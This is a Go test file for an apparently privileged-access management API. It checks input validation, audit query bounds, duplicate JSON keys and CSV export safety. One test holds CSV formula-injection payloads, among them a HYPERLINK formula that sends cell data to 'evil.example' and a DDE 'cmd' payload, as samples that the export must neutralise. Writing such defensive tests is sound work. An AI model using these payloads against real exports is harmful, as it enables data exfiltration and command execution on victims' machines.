package api_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/elevatepdp/elevate/test/harness"
)

// strictRoleJSON adds strict-role: no MFA and no approval (so tests may
// activate it without codes), but a justification of 10 characters or
// more and a ticket whose number matches ^INC[0-9]+$.
const strictRoleJSON = `{"pim": {"roles": {"strict-role": {
  "name": "Strict Role",
  "permissions": ["strict.*"],
  "settings": {"min_duration": "5m", "default_duration": "1h", "max_duration": "8h",
               "require_mfa": false, "mfa_max_age": "10m",
               "require_justification": true, "justification_min_length": 10, "justification_pattern": "",
               "require_ticket": true, "ticket_pattern": "^INC[0-9]+$",
               "require_approval": false, "approvers": [], "approvals_required": 1,
               "allow_permanent_eligibility": true, "max_eligibility": "8760h",
               "pending_timeout": "24h"}}}}}`

// startStrictEnv is startEnv with strict-role loaded beside the others.
func startStrictEnv(t *testing.T, r *harness.RedisServer, o envOptions) *env {
	t.Helper()
	file := filepath.Join(t.TempDir(), "strict-role.json")
	if err := os.WriteFile(file, []byte(strictRoleJSON), 0o600); err != nil {
		t.Fatal(err)
	}
	o.Args = append(o.Args, file)
	return startEnv(t, r, o)
}

const nobody = "nobody@perparims.example"

// Times past 2262 do not fit int64 nanoseconds: UnixNano wrapped a start
// of 9999-12-31 to 1816, so an eligible assignment starting then was live
// at once, and an activation start in 2611 wrapped to about now. Every
// time from outside is range-checked first (422 naming the field), and a
// start may be at most limits.schedule_ahead (a year) away.
func TestTimesPast2262Refused(t *testing.T) {
	t.Parallel()
	e := startEnv(t, harness.Redis(t), envOptions{Users: []string{nobody}})
	alex := e.Principal(t, "alex")
	in2Years := time.Now().Add(2 * 365 * 24 * time.Hour).UTC().Format(time.RFC3339)

	t.Run("assignment", func(t *testing.T) {
		tests := map[string]struct {
			body  map[string]any
			field string
		}{
			"eligible from 9999":   {map[string]any{"principal": nobody, "role": tr, "type": "eligible", "start": "9999-12-31T00:00:00Z"}, "start"},
			"active from 9999":     {map[string]any{"principal": nobody, "role": tr, "type": "active", "start": "9999-12-31T00:00:00Z"}, "start"},
			"eligible from 2611":   {map[string]any{"principal": nobody, "role": tr, "type": "eligible", "start": "2611-01-01T00:00:00Z"}, "start"},
			"active until 9999":    {map[string]any{"principal": nobody, "role": tr, "type": "active", "end": "9999-12-31T00:00:00Z"}, "end"},
			"start two years away": {map[string]any{"principal": nobody, "role": tr, "type": "active", "start": in2Years}, "schedule_ahead"},
		}
		for name, tc := range tests {
			t.Run(name, func(t *testing.T) {
				before := e.state(t)
				errs := wantError(t, e.call(t, "POST", "/v1/assignments", "perparim", tc.body), 422, "invalid_value")
				wantViolation(t, errs, tc.field)
				e.unchanged(t, before)
				if e.allowed(t, nobody, "test.run", "/") {
					t.Fatal("nobody holds test-role")
				}
				if r := e.callAuth(t, "POST", "/v1/activations", "Bearer "+e.userToken(t, nobody), act(tr)); r.Status != 403 {
					t.Fatalf("nobody's activation of test-role: %s, want 403", r)
				}
			})
		}
	})

	e.assign(t, alex, tr, "/", "eligible")
	t.Run("activation", func(t *testing.T) {
		for name, start := range map[string]string{"2611": "2611-01-01T00:00:00Z", "9999": "9999-12-31T00:00:00Z", "two years away": in2Years} {
			t.Run(name, func(t *testing.T) {
				before := e.state(t)
				errs := wantError(t, e.call(t, "POST", "/v1/activations", "alex", act(tr, "start", start)), 422, "invalid_value")
				wantViolation(t, errs, "start")
				e.unchanged(t, before)
			})
		}
	})

	t.Run("extension past 2262", func(t *testing.T) {
		id := e.activateTestRole(t, "alex")
		before := e.state(t)
		errs := wantError(t, e.call(t, "POST", "/v1/activations/"+id+"/extend", "alex", map[string]any{"duration": "2562047h"}), 422, "invalid_value")
		wantViolation(t, errs, "duration")
		e.unchanged(t, before)
	})

	t.Run("audit window", func(t *testing.T) {
		for _, name := range []string{"since", "until"} {
			errs := wantError(t, e.call(t, "GET", "/v1/audit"+q(name, "9999-12-31T00:00:00Z"), "perparim", nil), 422, "invalid_value")
			wantViolation(t, errs, name)
		}
		e.call(t, "GET", "/v1/audit"+q("until", "2261-12-31T00:00:00Z"), "perparim", nil).Want(t, 200)
	})
}

// xlen is the length of the audit stream.
func xlen(t *testing.T, r *harness.RedisServer) int64 {
	t.Helper()
	n, err := r.Client(t).XLen(context.Background(), "elevate:{audit}").Result()
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func usedMemory(t *testing.T, r *harness.RedisServer) int64 {
	t.Helper()
	info, err := r.Client(t).Info(context.Background(), "memory").Result()
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(info, "\r\n") {
		if v, ok := strings.CutPrefix(line, "used_memory:"); ok {
			n, err := strconv.ParseInt(v, 10, 64)
			if err != nil {
				t.Fatal(err)
			}
			return n
		}
	}
	t.Fatalf("no used_memory in %q", info)
	return 0
}

// A principal with no eligibility sent a 1 MB justification ten times:
// each was 403, and Redis grew by 21 MB (the request and denial events
// carry the text). Free text is bounded (limits.*), checked before
// anything is stored or audited.
func TestJustificationBounded(t *testing.T) {
	t.Parallel()
	r := harness.Redis(t)
	e := startEnv(t, r, envOptions{Users: []string{nobody}})
	f := newFixture(t, e)
	nobodyAuth := "Bearer " + e.userToken(t, nobody)

	t.Run("1 MB justification leaves Redis as it was", func(t *testing.T) {
		big := strings.Repeat("x", 1_000_000)
		events, mem := xlen(t, r), usedMemory(t, r)
		for range 5 {
			errs := wantError(t, e.callAuth(t, "POST", "/v1/activations", nobodyAuth, act(tr, "justification", big)), 422, "invalid_value")
			wantViolation(t, errs, "justification")
			wantViolation(t, errs, "1000")
		}
		if n := xlen(t, r); n != events {
			t.Errorf("the audit stream grew from %d to %d events", events, n)
		}
		// Five refused megabytes must not be kept; allow for Redis' own
		// bookkeeping.
		if grown := usedMemory(t, r) - mem; grown > 500_000 {
			t.Errorf("Redis grew by %d bytes", grown)
		}
	})

	long := strings.Repeat("j", 1001)
	runErrorCases(t, e, f, map[string]errorCase{
		"activation":         {who: "alex", method: "POST", path: "/v1/activations", body: act(tr, "justification", long), status: 422, code: "invalid_value", violation: "justification"},
		"ticket system":      {who: "alex", method: "POST", path: "/v1/activations", body: act(tr, "ticket", map[string]any{"system": strings.Repeat("s", 65), "number": "INC1"}), status: 422, code: "invalid_value", violation: "ticket.system"},
		"ticket number":      {who: "alex", method: "POST", path: "/v1/activations", body: act(tr, "ticket", map[string]any{"system": "SN", "number": "INC" + strings.Repeat("1", 126)}), status: 422, code: "invalid_value", violation: "ticket.number"},
		"scope":              {who: "alex", method: "POST", path: "/v1/activations", body: act(tr, "scope", "/"+strings.Repeat("s", 1024)), status: 422, code: "invalid_value", violation: "scope"},
		"assignment":         {who: "perparim", method: "POST", path: "/v1/assignments", body: map[string]any{"principal": nobody, "role": tr, "justification": long}, status: 422, code: "invalid_value", violation: "justification"},
		"approve":            {who: "perparim", method: "POST", path: "/v1/activations/{pending}/approve", body: map[string]any{"justification": long}, status: 422, code: "invalid_value", violation: "justification"},
		"deny":               {who: "perparim", method: "POST", path: "/v1/activations/{pending}/deny", body: map[string]any{"justification": long}, status: 422, code: "invalid_value", violation: "justification"},
		"cancel":             {who: "sophia", method: "POST", path: "/v1/activations/{pending}/cancel", body: map[string]any{"justification": long}, status: 422, code: "invalid_value", violation: "justification"},
		"deactivate":         {who: "alex", method: "POST", path: "/v1/activations/{alexLive}/deactivate", body: map[string]any{"justification": long}, status: 422, code: "invalid_value", violation: "justification"},
		"extend":             {who: "alex", method: "POST", path: "/v1/activations/{alexLive}/extend", body: map[string]any{"duration": "30m", "justification": long}, status: 422, code: "invalid_value", violation: "justification"},
		"stranger's deny":    {who: "alex", method: "POST", path: "/v1/activations/{pending}/deny", body: map[string]any{"justification": long}, status: 422, code: "invalid_value", violation: "justification"},
		"control in justif.": {who: "alex", method: "POST", path: "/v1/activations", body: act(tr, "justification", "ok\x1b[31m red"), status: 422, code: "invalid_value", violation: "justification"},
	})
	t.Run("at the limit", func(t *testing.T) {
		e.call(t, "POST", "/v1/activations", "alex", act(tr, "scope", "/at-limit", "justification", strings.Repeat("j", 1000),
			"ticket", map[string]any{"system": strings.Repeat("s", 64), "number": strings.Repeat("n", 128)})).Want(t, 201)
	})
}

// The ticket policy saw the number trimmed (" INC0042\n" matched
// ^INC[0-9]+$) while the store kept it as sent. The number is normalised
// once, and the policy decides on exactly what is stored; a control or
// format character inside is refused.
func TestTicketNumberCheckedAsStored(t *testing.T) {
	t.Parallel()
	e := startStrictEnv(t, harness.Redis(t), envOptions{})
	alex := e.Principal(t, "alex")
	e.assign(t, alex, "strict-role", "/", "eligible")

	t.Run("stored as checked", func(t *testing.T) {
		a := e.call(t, "POST", "/v1/activations", "alex", act("strict-role", "scope", "/a", "justification", why,
			"ticket", map[string]any{"system": " ServiceNow\t", "number": " INC0042\n"})).Want(t, 201)
		ticket, _ := a["ticket"].(map[string]any)
		if ticket["number"] != "INC0042" || ticket["system"] != "ServiceNow" {
			t.Fatalf("stored ticket %#v, want {ServiceNow INC0042}", a["ticket"])
		}
		got := e.call(t, "GET", "/v1/activations/"+a["id"].(string), "alex", nil).Want(t, 200)
		if n := got["ticket"].(map[string]any)["number"]; n != "INC0042" {
			t.Fatalf("read back ticket number %q", n)
		}
	})
	t.Run("zero-width around is trimmed", func(t *testing.T) {
		a := e.call(t, "POST", "/v1/activations", "alex", act("strict-role", "scope", "/b", "justification", why,
			"ticket", map[string]any{"system": "SN", "number": "\u200bINC0043\ufeff"})).Want(t, 201)
		if n := a["ticket"].(map[string]any)["number"]; n != "INC0043" {
			t.Fatalf("stored ticket number %q", n)
		}
	})
	for name, number := range map[string]string{
		"line break inside":    "INC0042\nINC0043",
		"bidi override inside": "INC\u202e2400",
		"NUL inside":           "INC00\x0042",
	} {
		t.Run(name, func(t *testing.T) {
			before := e.state(t)
			errs := wantError(t, e.call(t, "POST", "/v1/activations", "alex", act("strict-role", "scope", "/c", "justification", why,
				"ticket", map[string]any{"system": "SN", "number": number})), 422, "invalid_value")
			wantViolation(t, errs, "ticket.number")
			e.unchanged(t, before)
		})
	}
	t.Run("blank ticket is no ticket", func(t *testing.T) {
		errs := wantError(t, e.call(t, "POST", "/v1/activations", "alex", act("strict-role", "scope", "/d", "justification", why,
			"ticket", map[string]any{"system": " \u200b", "number": "\u2060\t"})), 403, "policy_denied")
		wantViolation(t, errs, "ticket")
	})
}

// Text made only of white space, zero-width or control characters passed
// a required justification of 10 characters: the policy's trim_space does
// not trim U+200B. Such text is empty, for the policy and the store alike.
func TestWhitespaceOnlyJustificationIsEmpty(t *testing.T) {
	t.Parallel()
	e := startStrictEnv(t, harness.Redis(t), envOptions{})
	alex := e.Principal(t, "alex")
	e.assign(t, alex, "strict-role", "/", "eligible")
	ticket := map[string]any{"system": "SN", "number": "INC1"}
	for name, text := range map[string]string{
		"zero-width spaces": strings.Repeat("\u200b", 12),
		"joiners and BOM":   "\u200c\u200d\u2060\ufeff\u200c\u200d\u2060\ufeff\u200c\u200d\u2060\ufeff",
		"control":           strings.Repeat("\x01", 12),
		"mixed":             " \t\u00a0\u200b\u3000\u2060\r\n\ufeff\u200d\x7f\u2028 ",
	} {
		t.Run(name, func(t *testing.T) {
			before := e.state(t)
			errs := wantError(t, e.call(t, "POST", "/v1/activations", "alex", act("strict-role", "justification", text, "ticket", ticket)), 403, "policy_denied")
			wantViolation(t, errs, "a justification is required")
			e.unchanged(t, before)
		})
	}
	t.Run("trimmed when kept", func(t *testing.T) {
		a := e.call(t, "POST", "/v1/activations", "alex", act("strict-role", "justification", "\u200b "+why+"\n\ufeff", "ticket", ticket)).Want(t, 201)
		if a["justification"] != why {
			t.Fatalf("stored justification %q, want %q", a["justification"], why)
		}
	})
}

// after_seq=2^63-1 overflowed into a Redis error (503); limit=2^63-1
// wrapped to "no limit" and returned every event in one page. Numbers are
// range-checked, and a page holds at most 1000 events.
func TestAuditQueryNumbersBounded(t *testing.T) {
	t.Parallel()
	e := startEnv(t, harness.Redis(t), envOptions{})
	e.assign(t, e.Principal(t, "alex"), tr, "/", "eligible")
	e.activateTestRole(t, "alex")
	for name, query := range map[string]string{
		"after_seq max int64":   q("after_seq", "9223372036854775807"),
		"after_seq above 2^53":  q("after_seq", "9007199254740992"),
		"after_seq negative":    q("after_seq", "-1"),
		"after_seq overflow":    q("after_seq", "9223372036854775808"),
		"limit max int64":       q("limit", "9223372036854775807"),
		"limit above a page":    q("limit", "1001"),
		"limit negative":        q("limit", "-1"),
		"limit overflow":        q("limit", "99999999999999999999"),
		"limit max int64, csv":  q("limit", "9223372036854775807", "format", "csv"),
		"after_seq max, jsonl":  q("after_seq", "9223372036854775807", "format", "jsonl"),
		"limit as float":        q("limit", "1e3"),
		"limit with whitespace": q("limit", " 5"),
	} {
		t.Run(name, func(t *testing.T) {
			param := "limit"
			if strings.Contains(name, "after_seq") {
				param = "after_seq"
			}
			errs := wantError(t, e.call(t, "GET", "/v1/audit"+query, "perparim", nil), 422, "invalid_value")
			wantViolation(t, errs, param)
		})
	}
	t.Run("at the bounds", func(t *testing.T) {
		if got := e.events(t, q("limit", "1000")); len(got) < 2 {
			t.Fatalf("limit=1000: %d events", len(got))
		}
		if got := e.events(t, q("after_seq", "9007199254740991")); len(got) != 0 {
			t.Fatalf("after_seq=2^53-1: %d events", len(got))
		}
		page := e.call(t, "GET", "/v1/audit"+q("limit", "1"), "perparim", nil).Want(t, 200)
		if n := len(list(t, page, "events")); n != 1 || page["next_after_seq"] == nil {
			t.Fatalf("limit=1: %d events, next_after_seq %v", n, page["next_after_seq"])
		}
	})
	if log := e.Log(); strings.Contains(log, "request failed") {
		t.Errorf("a refused query reached the store and failed:\n%s", log)
	}
}

// Duplicate member names were taken last-wins, so a filter in front of
// Elevate reading the first value saw another request than Elevate did.
// They are refused, at any depth.
func TestJSONDuplicateKeysRefused(t *testing.T) {
	t.Parallel()
	e := startEnv(t, harness.Redis(t), envOptions{})
	f := newFixture(t, e)
	alex, perparim := e.Principal(t, "alex"), e.Principal(t, "perparim")
	runErrorCases(t, e, f, map[string]errorCase{
		"authorize subject": {who: "gateway", method: "POST", path: "/v1/authorize",
			body: `{"subject":"` + alex + `","action":"test.run","subject":"` + perparim + `"}`, status: 400, code: "duplicate_key", violation: "subject"},
		"assignment principal": {who: "perparim", method: "POST", path: "/v1/assignments",
			body: `{"principal":"` + alex + `","role":"test-role","principal":"` + perparim + `"}`, status: 400, code: "duplicate_key", violation: "principal"},
		"activation role, same value": {who: "alex", method: "POST", path: "/v1/activations",
			body: `{"role":"test-role","role":"test-role"}`, status: 400, code: "duplicate_key", violation: "role"},
		"nested ticket number": {who: "alex", method: "POST", path: "/v1/activations",
			body: `{"role":"test-role","scope":"/dup","ticket":{"system":"SN","number":"INC1","number":"INC2"}}`, status: 400, code: "duplicate_key", violation: "ticket.number"},
		"nested mfa": {who: "alex", method: "POST", path: "/v1/activations",
			body: `{"role":"test-role","scope":"/dup","mfa":{"totp":"000000","totp":"111111"}}`, status: 400, code: "duplicate_key", violation: "mfa.totp"},
		"deny justification": {who: "perparim", method: "POST", path: "/v1/activations/{pending}/deny",
			body: `{"justification":"no","justification":"yes"}`, status: 400, code: "duplicate_key", violation: "justification"},
		"extend duration": {who: "alex", method: "POST", path: "/v1/activations/{alexLive}/extend",
			body: `{"duration":"5m","duration":"4h"}`, status: 400, code: "duplicate_key", violation: "duration"},
		"escaped the same": {who: "alex", method: "POST", path: "/v1/activations",
			body: `{"role":"test-role","scope":"/dup","r\u006fle":"test-role"}`, status: 400, code: "duplicate_key", violation: "role"},
	})
}

// Member names matched case-insensitively ("SUBJECT" worked as "subject").
// They match exactly; any other spelling is an unknown field.
func TestJSONKeysCaseSensitive(t *testing.T) {
	t.Parallel()
	e := startEnv(t, harness.Redis(t), envOptions{})
	f := newFixture(t, e)
	alex := e.Principal(t, "alex")
	runErrorCases(t, e, f, map[string]errorCase{
		"authorize SUBJECT":     {who: "gateway", method: "POST", path: "/v1/authorize", body: map[string]any{"SUBJECT": alex, "action": "test.run"}, status: 400, code: "unknown_field"},
		"authorize both cases":  {who: "gateway", method: "POST", path: "/v1/authorize", body: `{"subject":"` + alex + `","Subject":"x","action":"test.run"}`, status: 400, code: "unknown_field"},
		"activation Role":       {who: "alex", method: "POST", path: "/v1/activations", body: map[string]any{"Role": tr, "scope": "/case"}, status: 400, code: "unknown_field"},
		"nested ticket Number":  {who: "alex", method: "POST", path: "/v1/activations", body: act(tr, "scope", "/case", "ticket", map[string]any{"system": "SN", "Number": "INC1"}), status: 400, code: "unknown_field"},
		"assignment PRINCIPAL":  {who: "perparim", method: "POST", path: "/v1/assignments", body: map[string]any{"PRINCIPAL": alex, "role": tr}, status: 400, code: "unknown_field"},
		"approve Justification": {who: "perparim", method: "POST", path: "/v1/activations/{pending}/approve", body: map[string]any{"Justification": "Confirmed"}, status: 400, code: "unknown_field"},
		"extend Duration":       {who: "alex", method: "POST", path: "/v1/activations/{alexLive}/extend", body: map[string]any{"Duration": "30m"}, status: 400, code: "unknown_field"},
		"enrolment TOTP":        {who: "sophia", method: "POST", path: "/v1/mfa/totp/enroll", body: map[string]any{"TOTP": "123456"}, status: 400, code: "unknown_field"},
	})
}

// A justification starting with =, +, - or @ is a formula to a
// spreadsheet opening the CSV export. CSV cells are neutralised (a single
// quote before, the cell quoted), as OWASP recommends; JSON and JSON lines
// keep the text exactly.
func TestCSVFormulaInjectionNeutralised(t *testing.T) {
	t.Parallel()
	e := startEnv(t, harness.Redis(t), envOptions{})
	alex := e.Principal(t, "alex")
	e.assign(t, alex, tr, "/", "eligible")
	formulas := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"details")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(A1:A9)",
		"=1+1, \"quoted\"",
	}
	for i, text := range formulas {
		e.call(t, "POST", "/v1/activations", "alex", act(tr, "scope", "/f"+strconv.Itoa(i), "justification", text)).Want(t, 201)
	}
	query := q("principal", alex, "type", "activation.requested")

	raw := e.export(t, query+"&format=csv")
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, raw)
	}
	col := -1
	for i, name := range rows[0] {
		if name == "justification" {
			col = i
		}
	}
	if col < 0 || len(rows) != len(formulas)+1 {
		t.Fatalf("header %v, %d rows:\n%s", rows[0], len(rows), raw)
	}
	for i, text := range formulas {
		if got := rows[i+1][col]; got != "'"+text {
			t.Errorf("csv cell %q, want %q", got, "'"+text)
		}
		quoted := `"'` + strings.ReplaceAll(text, `"`, `""`) + `"`
		if !strings.Contains(raw, quoted) {
			t.Errorf("the cell of %q is not written quoted as %s:\n%s", text, quoted, raw)
		}
		if got := rows[i+1][2]; got != "activation.requested" {
			t.Errorf("type cell %q: ordinary cells must stay as they are", got)
		}
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
	}

	t.Run("json exact", func(t *testing.T) {
		got := list(t, e.call(t, "GET", "/v1/audit"+query, "perparim", nil).Want(t, 200), "events")
		for i, text := range formulas {
			if got[i]["justification"] != text {
				t.Errorf("json justification %q, want %q", got[i]["justification"], text)
			}
		}
	})
	t.Run("jsonl exact", func(t *testing.T) {
		lines := strings.Split(strings.TrimSpace(e.export(t, query+"&format=jsonl")), "\n")
		if len(lines) != len(formulas) {
			t.Fatalf("%d lines, want %d", len(lines), len(formulas))
		}
		for i, text := range formulas {
			var ev map[string]any
			if err := json.Unmarshal([]byte(lines[i]), &ev); err != nil || ev["justification"] != text {
				t.Errorf("jsonl line %s (%v), want justification %q", lines[i], err, text)
			}
		}
	})
}

// export reads GET /v1/audit?query as Perparim, the admin, as text.
func (e *env) export(t *testing.T, query string) string {
	t.Helper()
	req, err := http.NewRequest("GET", e.URL+"/v1/audit"+query, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", e.bearer(t, "perparim"))
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("GET /v1/audit%s: %d %v %s", query, resp.StatusCode, err, raw)
	}
	return string(raw)
}
